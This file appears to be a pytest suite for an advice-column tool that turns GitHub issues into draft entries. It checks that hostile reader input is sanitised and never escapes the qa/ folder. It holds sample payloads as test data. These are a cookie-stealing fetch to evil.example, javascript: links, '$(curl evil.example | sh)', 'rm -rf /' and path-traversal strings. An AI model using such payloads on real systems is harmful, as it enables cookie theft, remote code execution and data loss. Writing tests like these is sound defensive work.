"""`advice new --from-issue EVENT.json`: a reader's question from the "Ask a question" form becomes
a draft entry, whatever the issue holds; nothing in it is run, and nothing lands outside qa/."""

from __future__ import annotations

import copy
import datetime
import json
from pathlib import Path

import pytest

from advice_column.authoring.init import init_column
from advice_column.cli import main
from advice_column.entries.loader import load_column

from ..conftest import REPO

EVENT = json.loads((REPO / "tests/fixtures/issues/labeled-answer-this.json").read_text(encoding="utf-8"))
TODAY = datetime.date.today()
CONSENT = "### Publication\n\n- [X] I agree.\n- [X] I name no one."


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("template") / "column"
    init_column(root, "Ask Sam")
    return root


@pytest.fixture
def root(template, tmp_path) -> Path:
    import shutil

    copy_root = tmp_path / "column"
    shutil.copytree(template, copy_root)
    for example in (copy_root / "qa").rglob("*.md"):
        example.unlink()
    return copy_root


def event_file(tmp_path: Path, event: dict) -> Path:
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def with_body(body: str, **issue) -> dict:
    event = copy.deepcopy(EVENT)
    event["issue"].update(body=body, **issue)
    return event


def form(
    question: str, asker: str = "_No response_", topic: str = "Work", title: str = "_No response_"
) -> str:
    return (
        f"### Your question\n\n{question}\n\n### Sign it as\n\n{asker}\n\n### Topic\n\n{topic}\n\n"
        f"### Short title\n\n{title}\n\n{CONSENT}"
    )


def new_from(root: Path, event: Path) -> int:
    return main(["--root", str(root), "new", "--from-issue", str(event)])


def files_of(root: Path) -> set[str]:
    return {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}


def test_a_labeled_question_becomes_a_draft_with_its_asker_topic_and_issue(root, tmp_path, capsys):
    assert new_from(root, REPO / "tests/fixtures/issues/labeled-answer-this.json") == 0
    captured = capsys.readouterr()
    rel = f"qa/{TODAY.year}/do-i-ask-my-sister-to-pay-back-the-2000-she-borrowed.md"
    assert captured.out == rel + "\n"
    assert captured.err == (
        "advice new: issue #12: Do I ask my sister to pay back the £2,000 she borrowed?, "
        "signed Out of Pocket\n"
    )
    text = (root / rel).read_text(encoding="utf-8")
    assert text.startswith(
        "---\ntitle: Do I ask my sister to pay back the £2,000 she borrowed?\n"
        f"date: {TODAY}\ntopic: relationships\nasker: Out of Pocket\ndraft: true\n"
        "# Asked in issue #12: https://github.com/sam/ask-sam/issues/12\n---\n\n## Question\n\n"
        "My sister borrowed £2,000 for her wedding two years ago and has not mentioned it since.\n\n"
        "She just booked a holiday. Do I bring it up, or let it go to keep the peace?\n\n## Answer\n\n"
    )
    assert main(["--root", str(root), "check"]) == 0
    (draft,) = load_column(root).entries
    assert draft.draft and draft.asker == "Out of Pocket"
    # The columnist answers, then publishes; until then the placeholder stops it.
    assert main(["--root", str(root), "publish", rel]) == 1


def test_only_a_labeling_with_the_label_and_consent_makes_a_draft(root, tmp_path, capsys):
    before = files_of(root)
    other_label = copy.deepcopy(EVENT)
    other_label["label"]["name"] = "question"
    assert new_from(root, event_file(tmp_path, other_label)) == 1
    assert "labeled 'question', not 'answer-this'; nothing to do" in capsys.readouterr().err
    opened = copy.deepcopy(EVENT)
    opened["action"] = "opened"
    assert new_from(root, event_file(tmp_path, opened)) == 2
    no_consent = with_body(form("Should I?").replace("- [X] I name", "- [ ] I name"))
    assert new_from(root, event_file(tmp_path, no_consent)) == 1
    assert "has not agreed to publication" in capsys.readouterr().err
    not_a_form = with_body("Hi, I have a question about my boss.")
    assert new_from(root, event_file(tmp_path, not_a_form)) == 1
    assert "was not made with the Ask a question form" in capsys.readouterr().err
    for broken in (b"{not json", b"\xff\xfe", b"[]", b"{}", b" " * (3 * 1024 * 1024)):
        (tmp_path / "broken.json").write_bytes(broken)
        assert new_from(root, tmp_path / "broken.json") == 2
        err = capsys.readouterr().err
        assert "not a GitHub event file" in err or "not the event of an issue being labeled" in err
    assert files_of(root) == before


HOSTILE_QUESTIONS = {
    "script": "<script>alert(document.cookie)</script> Is this safe?",
    "image": '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)"> and ![x](https://evil.example/t.png)',
    "link": "[click me](javascript:alert(1)) or [here](data:text/html,<b>x</b>) <https://evil.example>",
    "sections": "Fine.\n\n## Answer\n\nI answer myself.\n\n# A title\n\n## Question\n\nAgain.",
    "code": "\tindented with a tab\n\n    four spaces\n\n```\n## Answer\n<script>x</script>\n```",
    "nesting": "> " * 60 + "deep\n\n" + "- " * 60 + "deep\n\n" + "1. " * 40 + "deep",
    "entities": "&lt;script&gt; &#60;b&#62; " + "& " * 400,
    "brackets": "[" * 5000 + "]" * 5000,
    "controls": "bell\x07 escape\x1b[31m red \u202e reversed \u200b zero-width \x00 null",
    "huge": ("A long day at work. " * 40 + "\n\n") * 200,
    "one huge paragraph": "word " * 13_000,
    "fake fields": "My question.\n\n### Sign it as\n\nSomeone else\n\n### Topic\n\n../../etc",
    "workflow syntax": "${{ github.token }} $(curl evil.example | sh) `rm -rf /` ; echo pwned",
}


@pytest.mark.parametrize("question", HOSTILE_QUESTIONS.values(), ids=HOSTILE_QUESTIONS.keys())
def test_hostile_questions_make_a_valid_draft_under_qa_or_nothing(root, tmp_path, capsys, question):
    before = files_of(root)
    status = new_from(root, event_file(tmp_path, with_body(form(question, title="A fair question"))))
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and "\x1b" not in captured.err
    added = files_of(root) - before
    if status == 0:
        (rel,) = added
        assert rel == captured.out.strip() and rel.startswith(f"qa/{TODAY.year}/") and rel.endswith(".md")
        assert main(["--root", str(root), "check"]) == 0, (root / rel).read_text(encoding="utf-8")
        question = (root / rel).read_text(encoding="utf-8").split("## Question\n", 1)[1].split("## Answer")[0]
        assert "<" not in question and "](" not in question and "\t" not in question  # no tag, link or code
        (entry,) = load_column(root).entries
        assert entry.title == "A fair question" and entry.topic == "work"
    else:  # none of these today; a limit the text still passes is refused, with nothing written
        assert status == 1 and added == set()
        assert captured.err.startswith("advice new: issue #12 cannot become a draft:")
    assert status == 0


@pytest.mark.parametrize(
    ("title", "asker", "topic", "expected"),
    [
        ("../../../etc/passwd", "_No response_", "Work", ("etc-passwd", None, "work")),
        (
            "<b>Bold</b> & &lt;tag&gt;",
            '"; rm -rf / #',
            "Everyday life",
            ("b-bold-b-lt-tag-gt", '"; rm -rf / #', "everyday"),
        ),
        ("_No response_", "Sam\u202e", "friends", ("is-this-fine", "Sam", "relationships")),
        ("....", "x" * 500, "<script>", ("q-", "x" * 99 + "…", "everyday")),
        ("A" * 400, "_No response_", "../../qa/topics.yml", ("a" * 100, None, "everyday")),
    ],
)
def test_odd_titles_askers_and_topics_become_safe_values(
    root, tmp_path, capsys, title, asker, topic, expected
):
    event = with_body(form("Is this fine?", asker=asker, topic=topic, title=title), title="Question: ")
    assert new_from(root, event_file(tmp_path, event)) == 0
    rel = capsys.readouterr().out.strip()
    slug, expected_asker, expected_topic = expected
    assert Path(rel).parent.as_posix() == f"qa/{TODAY.year}" and Path(rel).stem.startswith(slug)
    assert main(["--root", str(root), "check"]) == 0
    (entry,) = load_column(root).entries
    assert (entry.asker, entry.topic) == (expected_asker, expected_topic)


def test_an_unknown_topic_is_filed_under_the_first_and_said(root, tmp_path, capsys):
    assert new_from(root, event_file(tmp_path, with_body(form("Hm?", topic="Cooking")))) == 0
    err = capsys.readouterr().err
    assert "the asker chose 'Cooking', not a topic; the draft is filed under 'everyday'" in err


def test_a_second_question_with_the_same_title_gets_the_issue_number(root, tmp_path, capsys):
    event = with_body(form("First?", title="Same title"))
    assert new_from(root, event_file(tmp_path, event)) == 0
    event["issue"]["number"] = 13
    assert new_from(root, event_file(tmp_path, event)) == 0
    assert capsys.readouterr().out.split() == [
        f"qa/{TODAY.year}/same-title.md",
        f"qa/{TODAY.year}/same-title-issue-13.md",
    ]


def test_a_linked_folder_in_qa_is_never_written_through(root, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "qa" / str(TODAY.year)).rmdir()
    (root / "qa" / str(TODAY.year)).symlink_to(outside)
    assert new_from(root, REPO / "tests/fixtures/issues/labeled-answer-this.json") == 1
    assert "is a link or a file, not a folder; nothing was written" in capsys.readouterr().err
    assert not list(outside.iterdir())
